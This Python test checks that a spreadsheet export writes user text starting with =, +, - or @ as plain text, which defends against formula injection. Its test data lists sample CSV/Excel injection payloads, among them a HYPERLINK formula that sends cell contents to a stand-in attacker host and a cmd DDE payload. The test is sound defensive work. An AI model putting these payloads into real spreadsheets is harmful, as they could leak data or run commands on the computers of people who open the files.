"""Exports write what users typed as text: a cell beginning with =, +, - or @ is never a formula."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from types import SimpleNamespace

from python_calamine import CalamineWorkbook

from fazhi.imports.columns import Column
from fazhi.imports.excel import export_bytes
from fazhi.imports.sheet import SheetSpec

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "{=1+1}",
]


def test_export_writes_formula_like_text_as_text_cells() -> None:
    spec = SheetSpec(
        key="t",
        title="测试",
        columns=[
            Column("name", "申请人"),
            Column("count", "件数", kind="int"),
            Column("on", "收件日期", kind="date"),
        ],
    )
    rows = [SimpleNamespace(name=text, count=3, on=dt.date(2025, 3, 1)) for text in HOSTILE]
    data = export_bytes(spec, rows)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    values = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in values[1:]] == HOSTILE
    assert values[1][1] == 3 and values[1][2] == dt.date(2025, 3, 1)
